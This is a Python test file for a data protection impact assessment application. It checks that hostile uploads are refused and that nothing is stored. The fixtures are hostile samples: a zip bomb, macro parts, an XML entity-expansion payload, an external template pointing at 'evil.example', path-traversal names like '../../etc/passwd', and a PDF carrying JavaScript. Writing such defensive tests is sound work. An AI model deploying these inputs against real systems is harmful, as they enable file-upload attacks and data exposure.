"""Hostile and damaged uploads: each gets a clear refusal, and nothing is stored or changed."""

import io
import json
import zipfile
from pathlib import Path

import pytest

from dpia.errors import Refused
from dpia.importers import safety
from dpia.services.assessments import attachments, imports
from tests import import_fixtures as fx
from tests.conftest import EDITOR

MB = 1024 * 1024
MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
WORD_MAIN = safety.WORD_MAIN


@pytest.fixture
def storage(app):
    return attachments.Storage(instance=Path(app.instance_path), max_bytes=2 * MB)


def _with(parts: dict[str, bytes | None]) -> bytes:
    """The ICO fixture with some parts replaced (None removes one)."""
    found = fx.parts_of(fx.ico_dpia())
    for name, content in parts.items():
        if content is None:
            found.pop(name, None)
        else:
            found[name] = content
    return fx.zipped(found)


def _bomb() -> bytes:
    found = fx.parts_of(fx.ico_dpia())
    found["word/media/padding.xml"] = b"<a>" + b"0" * (30 * MB) + b"</a>"
    return fx.zipped(found)


def _lying_sizes() -> bytes:
    """A zip whose central directory claims a part is tiny when it is not."""
    data = bytearray(_with({"word/extra.xml": b"<a>" + b"x" * 5000 + b"</a>"}))
    return bytes(data[:-200]) + b"\x00" * 200


def _too_deep() -> bytes:
    return ("[" * 100_000 + "]" * 100_000).encode()


HOSTILE = {
    "not a zip": (b"PK\x05\x06" + b"\x00" * 18, "zip structure"),
    "random bytes": (bytes(range(256)) * 4, "not recognised"),
    "zip bomb": (_bomb(), "zip bomb"),
    "macro part": (_with({"word/vbaProject.bin": b"\x00" * 64}), "macros"),
    "macro content type": (
        _with(
            {
                "[Content_Types].xml": fx.parts_of(fx.ico_dpia())["[Content_Types].xml"].replace(
                    WORD_MAIN.encode(), MACRO_TYPE.encode()
                )
            }
        ),
        "macro",
    ),
    "encrypted or legacy": (safety.OLE_SIGNATURE + b"\x00" * 512, "encrypted"),
    "entity expansion": (
        _with(
            {
                "word/document.xml": b'<?xml version="1.0"?>'
                b'<!DOCTYPE d [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>'
                b"<d>&b;</d>"
            }
        ),
        "entities",
    ),
    "missing document part": (_with({"word/document.xml": None}), "damaged"),
    "missing content types": (_with({"[Content_Types].xml": None}), "Content_Types"),
    "malformed document part": (_with({"word/document.xml": b"<w:document><w:body>"}), "well-formed"),
    "valid XML but not a document": (_with({"word/document.xml": b"<nothing/>"}), "damaged"),
    "external template": (
        _with(
            {
                "word/_rels/settings.xml.rels": b'<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate"'
                b' Target="http://evil.example/t.dotm" TargetMode="External"/>'
                b"</Relationships>"
            }
        ),
        "outside itself",
    ),
    "json wrong shape": (json.dumps({"hello": "world"}).encode(), "neither"),
    "json wrong types": (json.dumps({"pia": {"name": 5}, "answers": "x"}).encode(), "malformed"),
    "json answers not objects": (json.dumps({"pia": {}, "answers": [1, 2]}).encode(), "malformed"),
    "json too deep": (_too_deep(), "JSON"),
    "json not utf-8": (b'{"pia": "\xff\xfe"}', "UTF-8"),
    "dpia json wrong types": (
        json.dumps(
            {
                "format": "dpia-assessment",
                "format_version": 1,
                "kind": "dpia",
                "definition_version": 1,
                "version": {"answers": [], "title": 5},
            }
        ).encode(),
        "malformed",
    ),
    "dpia json unknown kind": (
        json.dumps(
            {"format": "dpia-assessment", "format_version": 1, "kind": "x", "definition_version": 1}
        ).encode(),
        "not known",
    ),
    "oversized": (b"{" + b" " * (3 * MB) + b"}", "MB or smaller"),
    "empty": (b"", "empty"),
}


def _nothing_stored(db, app) -> None:
    assert db["staged_imports"].count == 0
    assert db["assessments"].count == 0
    folder = Path(app.instance_path) / "imports"
    assert not folder.exists() or list(folder.iterdir()) == []


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_imports_are_refused_clearly_and_change_nothing(name, db, app, storage, make_system):
    data, message = HOSTILE[name]
    system_id = make_system()
    before = db["audit_log"].count
    with pytest.raises(Refused, match=message):
        imports.upload(db, EDITOR, storage, system_id, "upload.docx", data)
    _nothing_stored(db, app)
    assert db["audit_log"].count == before


@pytest.mark.parametrize("name", ["../../etc/passwd", "a/b.docx", "a\\b.docx", "bad\x00.docx", "", " "])
def test_names_with_path_separators_are_refused(name, db, app, storage, make_system):
    with pytest.raises(Refused):
        imports.upload(db, EDITOR, storage, make_system(), name, fx.ico_dpia())
    _nothing_stored(db, app)


def test_zip_bombs_are_refused_before_reading_by_declared_sizes():
    with pytest.raises(Refused, match="zip bomb"):
        safety.check_office(_bomb())


def test_a_zip_with_lying_sizes_is_refused_as_damaged():
    with pytest.raises(Refused):
        safety.check_office(_lying_sizes())


def test_too_many_parts_are_refused():
    parts = {f"p{i}.xml": b"<a/>" for i in range(safety.MAX_PARTS + 1)}
    with pytest.raises(Refused, match="parts"):
        safety.check_office(fx.zipped(parts, zipfile.ZIP_STORED))


def test_an_encrypted_zip_entry_is_refused():
    data = bytearray(fx.ico_dpia())
    # Set the "encrypted" flag on every central directory entry.
    position = data.find(b"PK\x01\x02")
    while position != -1:
        data[position + 8] |= 0x1
        position = data.find(b"PK\x01\x02", position + 4)
    with pytest.raises(Refused, match="encrypted"):
        safety.check_office(bytes(data))


# Evidence attachments


EVIDENCE = {
    "report.pdf": (fx.pdf, "pdf", "application/pdf"),
    "minutes.docx": (fx.ico_dpia, "docx", safety.FILE_TYPES["docx"].content_type),
    "results.xlsx": (fx.xlsx, "xlsx", safety.FILE_TYPES["xlsx"].content_type),
    "counts.csv": (lambda: b"period,group,count\n2024-01,A,12\n", "csv", "text/csv; charset=utf-8"),
    "signed.png": (fx.png, "png", "image/png"),
    "signed.jpg": (fx.jpeg, "jpeg", "image/jpeg"),
}


@pytest.mark.parametrize("name", sorted(EVIDENCE))
def test_each_evidence_type_is_accepted_by_content_and_stored_under_a_random_name(
    name, db, app, storage, make_assessment
):
    build, kind, content_type = EVIDENCE[name]
    assessment_id = make_assessment()
    data = build()
    attachments.add(db, EDITOR, storage, assessment_id, 1, name, data, "Signed copy")
    version = db.execute(
        "SELECT id FROM assessment_versions WHERE assessment_id = ?", [assessment_id]
    ).fetchone()
    listed = attachments.for_version(db, EDITOR, version[0])
    assert [(f["name"], f["type"], f["size"], f["description"]) for f in listed] == [
        (name, kind, len(data), "Signed copy")
    ]
    import hashlib

    assert listed[0]["sha256"] == hashlib.sha256(data).hexdigest()
    stored = list((Path(app.instance_path) / "attachments").iterdir())
    assert len(stored) == 1 and name not in stored[0].name and stored[0].read_bytes() == data


@pytest.mark.parametrize(
    "name, data, message",
    [
        ("report.pdf", fx.png(), "named .pdf but its content is a PNG image"),
        ("notes.txt", b"\x00\x01binary", "not recognised"),
        ("macro.docx", _with({"word/vbaProject.bin": b"x"}), "macros"),
        ("locked.pdf", b"%PDF-1.7\n/Encrypt 5 0 R\n", "encrypted"),
        ("script.pdf", b"%PDF-1.7\n<< /JavaScript (app.alert(1)) >>\n", "scripts"),
        ("data.json", b'{"a": 1}', "named .json but its content is a CSV file"),
        ("../evil.pdf", fx.pdf(), "folder separators"),
        ("big.csv", b"a," * (MB + 10), "MB or smaller"),
    ],
)
def test_unacceptable_evidence_is_refused_and_nothing_is_stored(
    name, data, message, db, app, make_assessment
):
    storage = attachments.Storage(
        instance=Path(app.instance_path), max_bytes=2 * MB if "big" not in name else MB
    )
    assessment_id = make_assessment()
    with pytest.raises(Refused, match=message):
        attachments.add(db, EDITOR, storage, assessment_id, 1, name, data)
    assert db["attachments"].count == 0
    folder = Path(app.instance_path) / "attachments"
    assert not folder.exists() or list(folder.iterdir()) == []


def test_evidence_may_be_added_to_an_approved_version_and_is_audited(db, storage, make_assessment):
    from dpia.services.assessments import workflow
    from tests.conftest import APPROVER, DPIA_ANSWERS, SIGNOFFS, revision_of

    assessment_id = make_assessment(answers={**DPIA_ANSWERS, "signoffs": SIGNOFFS, "dpo_summary": "Go"})
    workflow.transition(db, EDITOR, assessment_id, 1, "submit", {}, revision_of(db, assessment_id))
    workflow.transition(
        db, APPROVER, assessment_id, 1, "approve", {"conducted": "2024-04"}, revision_of(db, assessment_id)
    )
    attachments.add(db, APPROVER, storage, assessment_id, 1, "signed.pdf", fx.pdf())
    summary = db.execute("SELECT summary FROM audit_log WHERE action = 'attachment.add'").fetchone()[0]
    assert "signed.pdf" in summary and "(approved)" in summary


def test_hostile_bytes_never_reach_the_word_reader_unchecked():
    # The reader itself also refuses rather than failing on a damaged package.
    from dpia.importers import word

    with pytest.raises(Refused):
        word.read(b"PK\x03\x04 damaged")
    assert io  # keep the import for fixtures built in memory
